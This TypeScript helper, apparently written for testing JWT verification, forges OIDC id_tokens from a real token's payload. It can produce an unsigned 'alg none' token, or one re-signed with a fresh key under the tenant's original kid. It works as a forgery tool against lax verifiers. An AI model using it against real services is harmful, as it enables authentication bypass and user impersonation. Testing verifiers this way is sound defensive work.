/** An id_token that says the right things and is not the tenant's: for those who read claims before they look at the signature. */
import { CompactSign, decodeProtectedHeader, generateKeyPair } from 'jose';

/** @param signed `not`: alg none (RFC 8725 §3.2); `with-another-key`: under the name (kid) of the tenant's own */
export async function forgedIdToken(idToken: string, signed: 'not' | 'with-another-key'): Promise<string> {
  const payload = idToken.split('.')[1] ?? '';
  if (signed === 'not') {
    const header = Buffer.from(JSON.stringify({ alg: 'none', typ: 'JWT' })).toString('base64url');
    return `${header}.${payload}.`;
  }
  const { privateKey } = await generateKeyPair('RS256');
  const { kid = '' } = decodeProtectedHeader(idToken);
  return new CompactSign(Buffer.from(payload, 'base64url'))
    .setProtectedHeader({ typ: 'JWT', alg: 'RS256', kid })
    .sign(privateKey);
}
